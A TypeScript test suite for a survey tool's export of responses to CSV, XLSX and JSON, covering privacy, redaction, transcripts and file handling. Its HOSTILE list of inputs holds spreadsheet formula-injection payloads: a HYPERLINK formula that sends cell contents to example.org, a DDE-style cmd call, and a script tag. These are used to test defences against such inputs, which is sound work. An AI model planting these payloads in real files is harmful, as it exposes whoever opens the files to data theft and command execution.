import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Response } from '../../src/domain/response/response.ts';
import { clockDoubtful } from '../../src/endpoint/export/clockDoubtful.ts';
import { type ExportFormat, type ExportReport, exportResponses } from '../../src/endpoint/export/exportResponses.ts';
import { receiveEnvelopes } from '../../src/endpoint/receive/receiveEnvelopes.ts';
import { NOTE_PLACES } from '../../src/endpoint/staff/listening/notePlaces.ts';
import { sealTyped } from '../../src/endpoint/staff/listening/openedWords.ts';
import { removeOriginals } from '../../src/endpoint/staff/listening/removeOriginals.ts';
import { createTexts } from '../../src/endpoint/staff/listening/texts.ts';
import { createTranscripts } from '../../src/endpoint/staff/listening/transcripts.ts';
import { sealNote } from '../../src/sealing/note.ts';
import { spoken, webm } from './spoken.ts';
import { surveyOf, teaResponse, wordsOf } from './tea.ts';
import { DAY, openTestEndpoint, type TestEndpoint } from './testEndpoint.ts';

let endpoint: TestEndpoint;
let folder: string;
beforeEach(async () => {
  endpoint = await openTestEndpoint();
  folder = mkdtempSync(join(tmpdir(), 'heard-export-'));
});
afterEach(async () => {
  await endpoint.close();
  rmSync(folder, { recursive: true });
});

const store = async (...responses: readonly Response[]): Promise<void> => {
  const outcomes = await endpoint.send(...(await Promise.all(responses.map((response) => endpoint.seal(response)))));
  expect(outcomes.map(({ outcome }) => outcome)).toEqual(responses.map(() => 'stored'));
};

const write = (format: ExportFormat, surveys: readonly string[] = ['tea'], held = endpoint.deps.keys.held): Promise<ExportReport> =>
  exportResponses(
    { storage: endpoint.deps.storage, keys: held, surveyOf, wordsOf },
    { format, out: join(folder, `out.${format}`), surveys },
  );

type Row = Record<string, string | number | null | undefined>;

/** Reads a CSV file as a person who has read the usage would: one leading apostrophe is ours. */
const readCsv = (name = 'out.csv'): Row[] => {
  const text = readFileSync(join(folder, name), 'utf8');
  const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  const [headers = [], ...rows] = data;
  return rows.map((row) => Object.fromEntries(headers.map((header, at) => [header, row[at]?.replace(/^'/, '')])));
};

const readXlsx = async (sheet = 'tea'): Promise<Row[]> => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(join(folder, 'out.xlsx'));
  const worksheet = workbook.getWorksheet(sheet);
  if (!worksheet) throw new Error(`no sheet ${sheet}`);
  const rows: ExcelJS.CellValue[][] = [];
  worksheet.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  const [headers = [], ...rest] = rows;
  return rest.map((row) => Object.fromEntries(headers.map((header, at) => [String(header), row[at] as string | number | undefined])));
};

interface JsonExport {
  readonly codebook: readonly { readonly question: string; readonly version: number }[];
  readonly responses: readonly (Response & { readonly words: string })[];
}
const readJson = (): JsonExport => JSON.parse(readFileSync(join(folder, 'out.json'), 'utf8'));

const FULL = teaResponse({
  answers: {
    often: { kind: 'apart', apart: 'prefer-not-to-say' },
    kind: { kind: 'one', code: 'other', said: 'کشمیری چائے' },
    with: { kind: 'many', codes: ['milk'] },
    cups: { kind: 'number', number: 3 },
    why: { kind: 'text', text: 'It warms\nthe hands' },
  },
});

/** As the device of a shared tablet sends it, and as it comes in by hand. */
const storeOfTablet = async (response: Response): Promise<void> => {
  const { storage, keys } = endpoint.deps;
  const receiver = { storage, keys: keys.held, surveyOf, mayComeFrom: () => true, today: () => DAY };
  expect(await receiveEnvelopes(receiver, [await endpoint.seal(response)])).toMatchObject([{ outcome: 'stored' }]);
};

describe('an export', () => {
  it('says how somebody was helped, and in no format on which tablet or in which session', async () => {
    const marks = { tablet: '6f3a9f62-6a3f-4a53-9d5e-1f6a4e6b1c77', session: 'radcliffe-hub.2026-11-22.a' };
    await storeOfTablet(teaResponse({ channel: 'hub-tablet', helped: ['read-aloud', 'typed'], ...marks }));
    for (const format of ['csv', 'xlsx', 'json'] as const) await write(format);
    expect(readCsv()).toMatchObject([{ channel: 'hub-tablet', helped: 'read-aloud typed' }]);
    expect(await readXlsx()).toMatchObject([{ helped: 'read-aloud typed' }]);
    expect(readJson().responses).toMatchObject([{ helped: ['read-aloud', 'typed'] }]);
    const [row = {}] = await readXlsx();
    const told = [readFileSync(join(folder, 'out.csv'), 'utf8'), readFileSync(join(folder, 'out.json'), 'utf8'), JSON.stringify(row)];
    for (const text of told) for (const mark of Object.values(marks)) expect(text).not.toContain(mark);
  });

  it('has one row a response: context, codes and labels, one column an option, numbers, and the words opened', async () => {
    await store(FULL);
    await write('csv');
    expect(readCsv()).toEqual([
      {
        id: FULL.id,
        survey: 'tea',
        version: '1',
        language: 'ur',
        format: 'standard',
        channel: 'own-phone',
        campaign: 'radcliffe-hub',
        helped: '',
        about: '',
        day: '2026-11-22',
        received_day: '2026-11-23',
        clock_doubtful: '0',
        words: 'opened',
        redacted: '',
        often: 'prefer-not-to-say',
        'often.label': 'I’d rather not say',
        kind: 'other',
        'kind.label': '',
        'kind.said': 'کشمیری چائے',
        'with/milk': '1',
        'with/lemon': '0',
        'with/none': '0',
        'with.apart': '',
        cups: '3',
        why: 'It warms\nthe hands',
        'why.spoken_seconds': '0',
        'why.spoken_missing': '0',
        'why.transcript': '',
      },
    ]);
  });

  it('says how long somebody spoke, and what of it cannot be heard, with the words beside it', async () => {
    const [said, silent] = [await spoken(endpoint.deps.keys.current, [webm(), webm()]), teaResponse({ answers: {} })];
    expect(await endpoint.send(said.envelope, await endpoint.seal(silent))).toMatchObject([{ outcome: 'stored' }, { outcome: 'stored' }]);
    const [first] = said.recordings;
    await endpoint.deps.recordings.storeRecording(first?.id ?? '', new Uint8Array(first?.sealed ?? []));
    await write('csv');
    const cells = new Map(
      readCsv().map((row) => [row['id'], [row['words'], row['why'], row['why.spoken_seconds'], row['why.spoken_missing']]]),
    );
    expect(cells.get(said.response.id)).toEqual(['opened', '', '24', '1']);
    expect(cells.get(silent.id)).toEqual(['none', '', '', '']);
    await write('json');
    const answers = readJson().responses.find(({ id }) => id === said.response.id)?.answers;
    expect(answers).toEqual({
      why: {
        kind: 'text',
        text: '',
        recordings: [
          { seconds: 12, missing: false },
          { seconds: 12, missing: true },
        ],
      },
    });
  });

  it('has what was typed of it, once a second person has checked it', async () => {
    const [said, unchecked] = [
      await spoken(endpoint.deps.keys.current),
      await spoken(endpoint.deps.keys.current, [webm()], { code: 'K7M4Q-2XD9Q' }),
    ];
    await endpoint.send(said.envelope, unchecked.envelope);
    const transcripts = createTranscripts(endpoint.deps.database);
    for (const { response, recordings } of [said, unchecked]) {
      for (const { id, sealed } of recordings) await endpoint.deps.recordings.storeRecording(id, new Uint8Array(sealed));
      const ref = { response: response.id, question: 'why' };
      const words = await sealTyped({ text: 'It warms [name]' }, ref, endpoint.deps.keys.current);
      await transcripts.write(ref, 0, { language: 'ur', typedIn: 'ur', words, ready: true }, { id: 'u-1', name: 'Sam' }, DAY);
      if (response === said.response) await transcripts.check(ref, 1, { id: 'u-2', name: 'Alex' }, DAY);
    }
    await write('csv');
    const cells = new Map(readCsv().map((row) => [row['id'], row['why.transcript']]));
    expect([cells.get(said.response.id), cells.get(unchecked.response.id)]).toEqual(['It warms [name]', '']);
    await write('json');
    expect(readJson().responses.find(({ id }) => id === said.response.id)?.answers).toMatchObject({
      why: { transcript: 'It warms [name]' },
    });
  });

  const redact = async (response: string, question: string, text: string) => {
    const redacted = await sealNote(text, NOTE_PLACES.redacted({ response, question }), endpoint.deps.keys.current);
    const { db } = endpoint.deps.database;
    const { version } = await db.selectFrom('text').select('version').where('question', '=', question).executeTakeFirstOrThrow();
    const texts = createTexts(endpoint.deps.database);
    expect(await texts.change({ response, question }, version, { redacted }, { id: 'u-1', name: 'Sam' }, DAY)).toMatchObject({ ok: true });
  };
  /** All that an export of each format says, as text. */
  const everythingWritten = async (): Promise<string> => {
    for (const format of ['csv', 'xlsx', 'json'] as const) await write(format);
    return [JSON.stringify([readCsv(), await readXlsx()]), readFileSync(join(folder, 'out.json'), 'utf8')].join('\n');
  };

  it('has what a listener redacted in the place of what was written, in every format, and as long as the original is there too', async () => {
    const response = teaResponse({
      answers: { kind: { kind: 'one', code: 'other', said: 'Rosehip' }, why: { kind: 'text', text: 'Mrs Okafor makes it' } },
    });
    await store(response);
    await redact(response.id, 'why', '[a name] makes it');
    expect(await everythingWritten()).not.toContain('Okafor');
    const row = { words: 'opened', redacted: 'why', why: '[a name] makes it', 'kind.said': 'Rosehip' };
    expect([readCsv()[0], (await readXlsx())[0]]).toEqual([expect.objectContaining(row), expect.objectContaining(row)]);
    expect(readJson().responses[0]?.answers).toEqual({
      kind: { kind: 'one', code: 'other', said: 'Rosehip', label: expect.any(String) },
      why: { kind: 'text', text: '[a name] makes it', redacted: true },
    });
  });

  it('still has it when the original has gone, and when nothing else was written', async () => {
    const response = teaResponse({ answers: { why: { kind: 'text', text: 'Mrs Okafor makes it' } } });
    await store(response);
    await redact(response.id, 'why', '[a name] makes it');
    expect(await removeOriginals(endpoint.deps.database, endpoint.deps.keys, '2026-12-24', '2026-12-24')).toBe(1);
    await write('csv');
    expect(readCsv()).toMatchObject([{ words: 'opened', redacted: 'why', why: '[a name] makes it' }]);
  });

  it('has it in the place of what was typed of what somebody spoke, too', async () => {
    const said = await spoken(endpoint.deps.keys.current);
    await endpoint.send(said.envelope);
    for (const { id, sealed } of said.recordings) await endpoint.deps.recordings.storeRecording(id, new Uint8Array(sealed));
    const ref = { response: said.response.id, question: 'why' };
    const words = await sealTyped({ text: 'Mrs Okafor makes it' }, ref, endpoint.deps.keys.current);
    const transcripts = createTranscripts(endpoint.deps.database);
    await transcripts.write(ref, 0, { language: 'ur', typedIn: 'ur', words, ready: true }, { id: 'u-1', name: 'Sam' }, DAY);
    await transcripts.check(ref, 1, { id: 'u-2', name: 'Alex' }, DAY);
    await redact(ref.response, ref.question, '[a name] makes it');
    expect(await everythingWritten()).not.toContain('Okafor');
    expect(readCsv()).toMatchObject([{ words: 'opened', redacted: 'why', why: '[a name] makes it', 'why.transcript': '' }]);
  });

  it('says that a redaction cannot be read, and does not let the original through in its stead', async () => {
    const response = teaResponse({ answers: { why: { kind: 'text', text: 'Mrs Okafor makes it' } } });
    await store(response);
    await redact(response.id, 'why', '[a name] makes it');
    await endpoint.deps.database.db.updateTable('text').set({ redacted_key: 'k-of-somebody-else' }).execute();
    expect(await write('csv')).toMatchObject({ responses: 1, unreadable: 1 });
    expect(readCsv()).toMatchObject([{ words: 'unreadable', redacted: 'why', why: '' }]);
  });

  it('leaves the cells of a question empty that was not answered: that is not "none chosen"', async () => {
    await store(teaResponse({ answers: {} }));
    await write('csv');
    expect(readCsv()[0]).toMatchObject({ words: 'none', often: '', 'with/milk': '', 'with/lemon': '', cups: '', why: '' });
  });

  it('puts two versions of a survey in one table, a shared question in one column', async () => {
    await store(
      teaResponse({ version: 1, answers: { cups: { kind: 'number', number: 2 } } }),
      teaResponse({ version: 2, answers: { pot: { kind: 'one', code: 'blue' } } }),
    );
    await write('csv');
    const rows = readCsv().sort((one, other) => Number(one['version']) - Number(other['version']));
    expect(rows.map(({ version, cups, pot }) => ({ version, cups, pot }))).toEqual([
      { version: '1', cups: '2', pot: '' },
      { version: '2', cups: '', pot: 'blue' },
    ]);
  });

  it('opens in Excel as UTF-8, with lines that end as RFC 4180 has them', async () => {
    await store(FULL);
    await write('csv');
    const bytes = readFileSync(join(folder, 'out.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString().endsWith('\r\n')).toBe(true);
  });

  it('as XLSX has a frozen header, numbers as numbers and a code book', async () => {
    await store(FULL);
    await write('xlsx');
    expect((await readXlsx())[0]).toMatchObject({ version: 1, cups: 3, 'with/milk': 1, 'kind.said': 'کشمیری چائے' });
    const book = await readXlsx('Code book');
    expect(book).toContainEqual({
      survey: 'tea',
      version: 1,
      question: 'often',
      kind: 'scale',
      indicator: 'PA3-04',
      wording: 'About often?',
      code: 'rarely',
      label: 'Rarely',
    });
    expect(book.filter(({ question }) => question === 'often')).toHaveLength(9);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(join(folder, 'out.xlsx'));
    expect(workbook.getWorksheet('tea')?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('as JSON has every response exactly as it was given, with labels and a code book', async () => {
    await store(FULL);
    await write('json');
    const { codebook, responses } = readJson();
    expect(responses[0]).toMatchObject(FULL);
    expect(responses[0]?.answers['with']).toEqual({ kind: 'many', codes: ['milk'], labels: ['With milk'] });
    expect(codebook.map(({ question }) => question)).toEqual(['often', 'kind', 'with', 'cups', 'why']);
  });

  it('holds every one of many responses', async () => {
    for (let batch = 0; batch < 12; batch++) await store(...Array.from({ length: 50 }, () => teaResponse()));
    expect((await write('json')).responses).toBe(600);
    expect(new Set(readJson().responses.map(({ id }) => id)).size).toBe(600);
    // Sealing and opening 600 takes seconds where other tests run beside it.
  }, 60_000);

  it('writes one CSV file a survey when there are several, and says which', async () => {
    await store(FULL);
    expect((await write('csv', ['tea', 'cake'])).files).toEqual([join(folder, 'out-tea.csv'), join(folder, 'out-cake.csv')]);
    expect(readCsv('out-tea.csv')).toHaveLength(1);
  });

  it('keeps responses whose words cannot be opened, and reports them', async () => {
    await store(FULL, teaResponse({ answers: { often: { kind: 'one', code: 'rarely' } } }));
    expect(await write('csv', ['tea'], new Map())).toMatchObject({ responses: 2, unreadable: 1 });
    expect(readCsv().find(({ id }) => id === FULL.id)).toMatchObject({ words: 'unreadable', cups: '3', why: '' });
  });

  it('is for the eyes of its owner, and is not there at all when it could not be finished', async () => {
    await store(FULL);
    await write('csv');
    expect(statSync(join(folder, 'out.csv')).mode & 0o777).toBe(0o600);
    await endpoint.deps.storage.close();
    for (const format of ['json', 'xlsx'] as const) await expect(write(format)).rejects.toThrow();
    expect(readdirSync(folder)).toEqual(['out.csv']);
  });

  it('with no response yet has its headers', async () => {
    for (const format of ['csv', 'xlsx', 'json'] as const) expect(await write(format)).toMatchObject({ responses: 0 });
    expect(readFileSync(join(folder, 'out.csv'), 'utf8')).toContain('received_day');
    expect(readJson().responses).toEqual([]);
    expect(await readXlsx()).toEqual([]);
  });
});

const controls = Array.from({ length: 0x20 }, (_, code) => String.fromCharCode(code)).join('');

/** What people and attackers write. Each must come out of every format as it went in, and as text. */
const HOSTILE: [name: string, text: string][] = [
  ['a formula', '=HYPERLINK("http://example.org?"&A1,"Click")'],
  ['a formula with plus', "+1+cmd|' /C calc'!A0"],
  ['a formula with minus', '-2+3'],
  ['a formula with at', '@SUM(1+1)'],
  ['a formula after a tab', '\t=1+1'],
  ['a formula after a carriage return', '\r=1+1'],
  ['an apostrophe in front', "'tis"],
  ['two apostrophes in front', "''=1"],
  ['every control character', `a${controls}b\u007F\u0085`],
  ['a NUL alone', '\u0000'],
  ['what looks like an escape', '_x0041_ _x005F_ _X0041_ _x00e9_ _x0041_x0042_'],
  ['Urdu with marks of direction', '\u202Eچائے\u202C \u200Fاور\u200E دودھ'],
  ['a byte order mark', '\uFEFFtea'],
  ['emoji with joiners', '👩‍👩‍👧‍👦 🫖 🏳️‍🌈'],
  ['a letter with loose accents', 'e\u0301\u0323'],
  ['quotes', '"He said ""tea"""'],
  ['commas and semicolons', 'a,b;c\td|e'],
  ['every line ending', 'one\ntwo\r\nthree\rfour\u2028five\u2029six\n'],
  ['spaces at both ends', '  tea  '],
  ['only spaces', '   '],
  ['markup', '<script>alert(1)</script>&amp;]]><!--'],
  ['what is no character', '\uFFFE\uFFFF'],
  ['a number with a leading zero', '007'],
  ['a long number', '12345678901234567890'],
  ['a date', '1/2'],
  ['a name of every object', '__proto__'],
  ['a very long text', 'چائے '.repeat(4_000)],
];

describe('what people wrote', () => {
  it.each(HOSTILE)('comes out of every format as it went in: %s', async (_, text) => {
    await store(teaResponse({ answers: { kind: { kind: 'one', code: 'other', said: text }, why: { kind: 'text', text } } }));
    for (const format of ['csv', 'xlsx', 'json'] as const) await write(format);
    expect(readCsv()[0]).toMatchObject({ why: text, 'kind.said': text });
    expect((await readXlsx())[0]).toMatchObject({ why: text, 'kind.said': text });
    expect(readJson().responses[0]?.answers).toMatchObject({ kind: { said: text }, why: { text } });
  });

  it('that is half a character is the same replacement in every format', async () => {
    await store(teaResponse({ answers: { why: { kind: 'text', text: 'a\uD800b' } } }));
    for (const format of ['csv', 'xlsx', 'json'] as const) await write(format);
    const why = 'a\uFFFDb';
    expect([readCsv()[0]?.['why'], (await readXlsx())[0]?.['why'], readJson().responses[0]?.answers['why']]).toEqual([
      why,
      why,
      { kind: 'text', text: why },
    ]);
  });

  it.each(HOSTILE)('is never a formula in a spreadsheet: %s', async (_, text) => {
    await store(teaResponse({ answers: { why: { kind: 'text', text } } }));
    await write('csv');
    await write('xlsx');
    const { data } = Papa.parse<string[]>(readFileSync(join(folder, 'out.csv'), 'utf8'));
    for (const cell of data.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(join(folder, 'out.xlsx'));
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined())));
  });
});

describe('a doubtful clock', () => {
  it.each([
    ['2026-11-22', '2026-11-22', false],
    ['2026-11-23', '2026-11-22', false],
    ['2026-11-24', '2026-11-22', true],
    ['2026-06-01', '2026-11-22', false],
    ['2025-11-22', '2026-11-22', true],
    ['2027-11-22', '2026-11-22', true],
  ])('given on %s, received on %s: %s', (day, received, doubtful) => {
    expect(clockDoubtful(day, received)).toBe(doubtful);
  });
});
